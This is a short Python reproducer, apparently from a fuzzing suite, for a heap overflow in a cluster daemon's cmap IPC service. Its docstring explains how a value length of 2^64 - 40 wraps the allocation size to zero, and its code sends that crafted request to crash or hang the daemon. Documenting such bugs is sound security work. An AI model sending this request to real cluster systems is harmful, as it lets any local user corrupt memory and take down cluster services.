"""A client asks cmap for a value and says it has 2^64 - 40 bytes of room: the daemon's heap is overwritten.

Class: memory corruption (heap overflow). The room is added to the size of the response's header, which wraps
around to 0; that is what is allocated, and the header and the value are written behind it. Then the C library
aborts, the daemon crashes elsewhere, or its own handler of the crash waits for a lock for ever.
Reach: any user who may connect; any key that is there will do, and `set` makes one of any content.
Configuration: any; both transports. Cost: one request.
Last words: malloc(): unaligned tcache chunk detected; or malloc(): invalid size (unsorted). strace: SIGABRT
or SIGSEGV.
"""

from __future__ import annotations

from fuzz.reproduce import reproduce
from votequorum_ipc.attack import Connect, Send
from votequorum_ipc.wire import cmap

TRANSPORTS = ("shm", "socket")
OUTCOME = "dies or hangs"

STEPS = (
    Connect(0, "cmap"),
    Send(0, cmap.GET.encode(key_name="totem.cluster_name", value_len=2**64 - 40)),
)

if __name__ == "__main__":
    reproduce(STEPS, __doc__)
